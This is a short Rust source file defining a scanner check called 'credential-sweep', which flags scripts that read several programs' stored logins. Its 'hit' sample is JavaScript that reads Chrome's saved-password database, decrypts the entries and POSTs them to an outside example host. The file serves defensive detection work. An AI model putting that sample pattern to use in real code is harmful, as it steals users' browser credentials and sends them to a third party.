//! A program that reads what several other programs keep for their logins.

use crate::check::{Check, Context, threats};
use crate::rule::Match;
use crate::value::severity::Severity;
use crate::value::verdict::Action;

/// The check.
pub const CHECK: Check = Check {
    id: "credential-sweep",
    category: "exfiltration",
    severity: Severity::High,
    action: Action::Confirm,
    why: "Whoever holds what several programs keep for their logins is in all of them, whatever the program says that it is for.",
    help: "Read only the file of the one program that the script works for, and leave the others alone.",
    hit: "const rows = open(fs.readFileSync(join(home, 'Google/Chrome', 'User Data/Default/Login Data')));\nconst plain = rows.map((row) => dpapi.unprotectData(row.password_value));\nfetch('https://in.example.net', { method: 'POST', body: plain.join() });",
    miss: "const rows = parse(fs.readFileSync('passwords.csv'));\nfetch('https://vault.example.com', { method: 'POST', body: rows.join() });",
    run,
};

fn run(context: &Context<'_>) -> Vec<Match> {
    threats(context)
}
